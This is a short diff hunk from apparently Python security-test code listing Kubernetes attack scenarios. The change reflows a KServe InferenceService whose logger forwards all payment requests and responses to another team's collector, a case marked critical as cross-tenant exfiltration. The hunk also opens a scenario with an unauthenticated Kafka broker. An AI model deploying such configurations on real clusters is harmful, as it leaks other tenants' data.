@@ -123,7 +123,8 @@ ATTACKS = (
             "metadata": meta("rates", "payments", annotations={
                 "networking.knative.dev/visibility": "cluster-local"}),
             "spec": {"predictor": {
-                "serviceAccountName": "rates", "automountServiceAccountToken": False, "minReplicas": 1, "maxReplicas": 2, "model": MODEL, "logger": {
+                "serviceAccountName": "rates", "automountServiceAccountToken": False,
+                "minReplicas": 1, "maxReplicas": 2, "model": MODEL, "logger": {
                 "mode": "all", "url": "http://collect.team-a.svc.cluster.local/requests"}}}}),),
         "critical", "the team has each request and answer of payments (KServe, 'Inference Logger')"),
     Attack("the controller of brokers asks nobody to sign in", OPEN, (crd("kafka.strimzi.io/v1beta2:Kafka", {
